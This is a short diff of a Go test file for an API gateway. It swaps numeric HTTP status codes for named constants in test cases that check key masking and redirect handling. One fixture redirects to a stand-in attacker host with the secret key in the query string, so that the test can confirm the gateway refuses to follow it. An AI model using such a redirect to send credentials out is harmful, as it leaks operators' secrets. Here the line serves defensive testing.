@@ -412,10 +412,10 @@ func TestGateway_Answers(t *testing.T) {
 		text   string
 	}{
 		"an error with the key": {func(w http.ResponseWriter, r *http.Request) {
-			http.Error(w, "wrong key: "+r.Header.Get("Authorization")+"!", 401)
+			http.Error(w, "wrong key: "+r.Header.Get("Authorization")+"!", http.StatusUnauthorized)
 		}, 401, "wrong key: Bearer " + strings.Repeat("*", len(secret)) + "!"},
 		"a redirect": {func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.example.com/?k="+secret, 307)
+			http.Redirect(w, r, "https://evil.example.com/?k="+secret, http.StatusTemporaryRedirect)
 		}, 502, "is not followed with the operator's key"},
 		"a compressed answer": {func(w http.ResponseWriter, _ *http.Request) {
 			w.Header().Set("Content-Encoding", "gzip")
